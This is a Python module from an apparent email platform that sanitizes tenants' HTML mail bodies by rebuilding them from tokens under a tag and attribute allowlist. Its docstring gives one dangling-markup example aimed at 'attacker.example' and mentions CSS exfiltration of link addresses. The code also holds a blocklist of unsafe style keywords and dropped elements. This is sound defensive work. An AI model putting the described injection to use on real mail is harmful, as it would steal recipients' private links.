"""A tenant's HTML mail body, rebuilt from its tokens into markup that cannot reach past itself.

The platform's layout puts the recipient's personal link (a button) after the tenant's body.
Raw HTML from a template could leave something open that swallows that button: an attribute
quote (``<img src='https://attacker.example/?u=`` takes everything up to the next ``'``), a
``<style>`` block (the button's address becomes part of a CSS ``url(``), a comment, a
``<textarea>``; a ``<style>`` could also read the link's address through attribute
selectors. So the body is never inserted as the template wrote it: the sandbox child splits
it into tags and text (``app.services.mail_sandbox.html_tokens``) and :func:`safe_html`
rebuilds it here from an allowlist of formatting tags and attributes, every value quoted and
escaped, every element closed, table parts only inside the tenant's own tables. Scripts,
styles, forms and other active or swallowing elements are dropped with their content.

The tokens come from the child, whose output is not trusted either: anything malformed is
skipped, and building is linear in their size.
"""

from __future__ import annotations

import re
from typing import Any

from markupsafe import escape

from app.services.errors import InvalidInput


def _names(text: str) -> frozenset[str]:
    return frozenset(text.split())


MAX_HTML = 400_000
"""Characters a rebuilt body may have (the child's output cap, plus escaping)."""

ALLOWED_TAGS = _names(
    "a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del "
    "dfn div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small "
    "span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr"
)
VOID_TAGS = frozenset({"br", "col", "hr", "img", "wbr"})
DROPPED_WITH_CONTENT = _names(
    "applet audio button canvas datalist embed frame frameset head iframe math noembed "
    "noframes noscript object option plaintext script select style svg template textarea "
    "title video xmp"
)
ALLOWED_ATTRIBUTES = _names(
    "abbr align alt aria-hidden aria-label background bgcolor border cellpadding cellspacing "
    "cite class color cols colspan datetime dir face headers height href hspace lang role "
    "rowspan scope size span src start style summary target title type valign value vspace "
    "width"
)
URL_SCHEMES = {
    "href": ("https://", "http://", "mailto:", "tel:", "#"),
    "src": ("https://", "http://"),
    "background": ("https://", "http://"),
    "cite": ("https://", "http://"),
}
PARENTS = {
    "caption": {"table"},
    "col": {"colgroup", "table"},
    "colgroup": {"table"},
    "dd": {"dl"},
    "dt": {"dl"},
    "li": {"ol", "ul"},
    "tbody": {"table"},
    "td": {"tr"},
    "tfoot": {"table"},
    "th": {"tr"},
    "thead": {"table"},
    "tr": {"table", "tbody", "tfoot", "thead"},
}
"""Table and list parts are kept only inside the tenant's own table or list, so they cannot
close or open cells of the layout around the body."""
_NAME = re.compile(r"^[a-z][a-z0-9-]{0,30}$")
_UNSAFE_STYLE = re.compile(r"expression|javascript|behavior|binding|@import|\\|<|>", re.I)
_SPACE = re.compile(r"[\x00-\x20\x7f]+")


def _attribute(name: Any, value: Any) -> str | None:
    """`` name="value"`` when allowed, else None."""
    if not isinstance(name, str) or not isinstance(value, str) or name not in ALLOWED_ATTRIBUTES:
        return None
    if name in URL_SCHEMES:
        bare = _SPACE.sub("", value).lower()
        if not bare.startswith(URL_SCHEMES[name]):
            return None
    elif (name == "style" and _UNSAFE_STYLE.search(value)) or (
        name == "target" and value != "_blank"
    ):
        return None
    return f' {name}="{escape(value)}"'


def _start(tag: str, attributes: Any) -> str:
    pairs = attributes if isinstance(attributes, list) else []
    parts = []
    for pair in pairs:
        if isinstance(pair, list) and len(pair) == 2:
            rendered = _attribute(*pair)
            if rendered is not None:
                parts.append(rendered)
    if tag == "a" and any(p.startswith(' target="') for p in parts):
        parts.append(' rel="noopener noreferrer"')
    return f"<{tag}{''.join(parts)}>"


def safe_html(tokens: Any) -> str:
    """The body rebuilt from the child's tokens: allowlisted, escaped, closed.

    Raises:
        InvalidInput: ``error.template_too_expensive`` when the result would be too long.
    """
    out: list[str] = []
    size = 0
    stack: list[str] = []
    open_count: dict[str, int] = {}  # how often each tag is on the stack (O(1) look-ups)
    skipping: list[str] = []  # inside a dropped element: its tag, nested as opened
    for token in tokens if isinstance(tokens, list) else []:
        if not isinstance(token, list) or len(token) < 2 or not isinstance(token[1], str):
            continue
        kind, value = token[0], token[1]
        piece = ""
        if kind == "text":
            if not skipping:
                piece = str(escape(value))
        elif not _NAME.match(value):
            continue
        elif skipping:
            if kind == "start" and value == skipping[-1]:
                skipping.append(value)
            elif kind == "end" and value == skipping[-1]:
                skipping.pop()
            continue
        elif kind == "start":
            if value in DROPPED_WITH_CONTENT:
                skipping.append(value)
            elif value in ALLOWED_TAGS and (
                value not in PARENTS or (stack and stack[-1] in PARENTS[value])
            ):
                piece = _start(value, token[2] if len(token) > 2 else [])
                if value not in VOID_TAGS:
                    stack.append(value)
                    open_count[value] = open_count.get(value, 0) + 1
        elif kind == "end" and open_count.get(value):
            closing = []
            while stack:
                tag = stack.pop()
                open_count[tag] -= 1
                closing.append(f"</{tag}>")
                if tag == value:
                    break
            piece = "".join(closing)
        size += len(piece)
        if size > MAX_HTML:
            raise InvalidInput("error.template_too_expensive")
        out.append(piece)
    out.extend(f"</{tag}>" for tag in reversed(stack))
    return "".join(out)
